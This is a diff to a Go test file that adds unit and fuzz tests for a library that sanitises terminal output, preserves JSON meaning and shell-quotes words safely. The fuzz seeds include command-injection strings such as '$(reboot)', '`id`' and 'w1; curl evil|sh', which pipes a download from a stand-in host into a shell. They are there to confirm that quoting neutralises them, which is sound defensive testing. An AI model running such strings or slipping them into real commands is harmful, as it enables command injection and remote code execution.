@@ -3,7 +3,10 @@
 package text_test
 
 import (
+	"encoding/json"
 	"errors"
+	"fmt"
+	"maps"
 	"os/exec"
 	"strings"
 	"testing"
@@ -82,6 +85,58 @@ func TestNoArgumentGoesAroundTheFilter(t *testing.T) {
 
 type plainType string
 
+func TestALineThatWasLaidOutKeepsItsSpaces(t *testing.T) {
+	if got, want := text.Spaced("  a   b\n✓ c\x1b[1A\u202e \t"), "  a   b ✓ c[1A"; got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+	if got, want := text.Visible("a:\n  b\u009b\u2066: \r c\u00a0d\n"), "a:\n  b:   c d\n"; got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+	if got := text.Spaced(strings.Repeat("x", 1<<20)); utf8.RuneCountInString(got) != text.MaxLine {
+		t.Errorf("a line of %d characters", utf8.RuneCountInString(got))
+	}
+}
+
+func TestALineToCopyIsNotCutBeforeTheWholeTextIs(t *testing.T) {
+	long := strings.Repeat("word ", 500)
+	if got := text.Lines("a\n\n" + long); len(got) != 2 || got[1] != strings.TrimSpace(long) {
+		t.Errorf("%d lines: %.80q", len(got), got)
+	}
+	if got := strings.Join(text.Lines(strings.Repeat(long+"\n", 50)), "\n"); utf8.RuneCountInString(got) > text.MaxBlock+100 || !strings.HasSuffix(got, "…") {
+		t.Errorf("%d characters that end in %q", len(got), got[len(got)-10:])
+	}
+}
+
+func TestJSONMeansTheSameAndObeysNobody(t *testing.T) {
+	for in, want := range map[string]string{
+		`{"a": "żółw 节点 ✓"}`:   `{"a": "żółw 节点 ✓"}`,
+		"{\n    \"a\": 1\n}":   "{\n    \"a\": 1\n}",
+		"\"x\u202ey\u009bz\"":  `"x\u202ey\u009bz"`,
+		"\"\x7f\u200b\ufeff\"": `"\u007f\u200b\ufeff"`,
+		"\"\U000e0041\"":       `"\udb40\udc41"`,
+		"\"\u2028\u00a0\"":     `"\u2028\u00a0"`,
+	} {
+		if got := string(text.JSON([]byte(in))); got != want {
+			t.Errorf("%q becomes %s, want %s", in, got, want)
+		}
+	}
+}
+
+func TestAWordIsWholeOrNotTaken(t *testing.T) {
+	for word, want := range map[string]bool{
+		`{"a":"it's  two"}`: true, "": true, "worker-1": true, strings.Repeat("x", text.MaxWord): true,
+		strings.Repeat("x", text.MaxWord+1): false, "a\nb": false, "a\tb": false, "a\x1bb": false, "a\u202eb": false, "a\xffb": false, "a\u00a0b": false,
+	} {
+		if _, got := text.Whole(word); got != want {
+			t.Errorf("%.40q is whole: %t, want %t", word, got, want)
+		}
+	}
+	long := strings.Repeat("x", 2*text.MaxLine)
+	if got := text.Command("echo", long, "a\nb", ""); got != "echo "+long+" 'a b' ''" {
+		t.Errorf("got %.80q … %q", got, got[len(got)-20:])
+	}
+}
+
 func FuzzAWordIsOneWordToAShell(f *testing.F) {
 	for _, seed := range []string{"", "worker-1", "it's", "$(reboot)", "`id`", "a b", "~root", "-rf", "*", "a\nb", "w1; curl evil|sh", "\x1b", "{a,b}", "#x", "\\"} {
 		f.Add(seed)
@@ -105,6 +160,76 @@ func FuzzAWordIsOneWordToAShell(f *testing.F) {
 	})
 }
 
+func FuzzAWholeWordReachesTheProgramUnchanged(f *testing.F) {
+	for _, seed := range []string{"", `{"node":"w1","podCIDRs":["10.0.0.0/8"]}`, "it's", "$(id)  `id`", "\\", "!x", "~", "-n"} {
+		f.Add(seed)
+	}
+	shell, err := exec.LookPath("sh")
+	if err != nil {
+		f.Skip("there is no shell")
+	}
+	f.Fuzz(func(t *testing.T, word string) {
+		quoted, ok := text.Whole(word)
+		if !ok {
+			return
+		}
+		out, err := exec.CommandContext(t.Context(), shell, "-c", "set -- "+quoted+`; printf '%s\n%s' "$#" "$1"`).CombinedOutput()
+		if err != nil || string(out) != "1\n"+word {
+			t.Errorf("sh takes %s for %q (%v), want %q", quoted, out, err, word)
+		}
+	})
+}
+
+func FuzzJSONMeansTheSame(f *testing.F) {
+	f.Add("a\u202e\u009b\x7f\U000e0041\xff\n")
+	f.Fuzz(func(t *testing.T, s string) {
+		raw, err := json.MarshalIndent(map[string]string{s: s}, "", "  ")
+		if err != nil {
+			t.Fatal(err)
+		}
+		safe := text.JSON(raw)
+		for _, r := range string(safe) {
+			if r != '\n' && !unicode.IsPrint(r) {
+				t.Fatalf("%q holds %U", safe, r)
+			}
+		}
+		var before, after map[string]string
+		if json.Unmarshal(raw, &before) != nil || json.Unmarshal(safe, &after) != nil || !maps.Equal(before, after) {
+			t.Errorf("%q means %q, and became %q", raw, before, after)
+		}
+	})
+}
+
+// The format is the program's own; whatever fills it shows what it is and no more.
+func FuzzNoArgumentMakesALine(f *testing.F) {
+	f.Add("a\n✓ b", 3, 1.5, true)
+	f.Add("error: x\r\nnode/w1 removed\u2028\x1b[1A", -1, 0.0, false)
+	f.Fuzz(func(t *testing.T, s string, n int, x float64, yes bool) {
+		pointer, list := &s, []string{s, s}
+		for _, args := range [][]any{
+			{s, n, x, yes}, {errors.New(s), []byte(s), map[string]string{s: s}, &list}, {plainType(s), named{s}, list, struct{ A, b string }{s, s}},
+			{pointer, &pointer, []any{s, n, []error{errors.New(s)}}, time.Duration(n)}, {fmt.Errorf("x: %w", errors.New(s)), []named{{s}}, [2]string{s, s}, nil},
+		} {
+			for _, verb := range []string{"%v", "%s", "%q", "%+v", "%-8v", "%x"} {
+				got := text.Sprintf("ours "+strings.Repeat(verb+" ", len(args))+"\n", args...)
+				for _, line := range strings.Split(strings.TrimSuffix(got, "\n"), "\n")[1:] {
+					if !strings.HasPrefix(line, "  | ") {
+						t.Fatalf("%s of %q makes the line %q", verb, s, line)
+					}
+				}
+				for _, r := range got {
+					if r != '\n' && !unicode.IsPrint(r) {
+						t.Fatalf("%s of %q prints %U", verb, s, r)
+					}
+				}
+				if len(got) > 32*text.MaxBlock*utf8.UTFMax {
+					t.Fatalf("%d bytes", len(got))
+				}
+			}
+		}
+	})
+}
+
 func FuzzWhatIsShownIsHarmless(f *testing.F) {
 	f.Add("a\x1b[2J\nb\u202e\xff")
 	f.Fuzz(func(t *testing.T, s string) {
@@ -116,6 +241,9 @@ func FuzzWhatIsShownIsHarmless(f *testing.F) {
 			if !unicode.IsPrint(r) {
 				t.Errorf("%q holds %U", s, r)
 			}
+		}
+		if spaced, visible := text.Spaced(s), text.Visible(s); utf8.RuneCountInString(spaced) > text.MaxLine || strings.ContainsFunc(spaced+visible, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }) || strings.Contains(spaced, "\n") {
+			t.Errorf("%q is laid out as %q", s, spaced)
 		}
 		for _, l := range strings.Split(block, "\n")[1:] {
 			if !strings.HasPrefix(l, "  | ") {
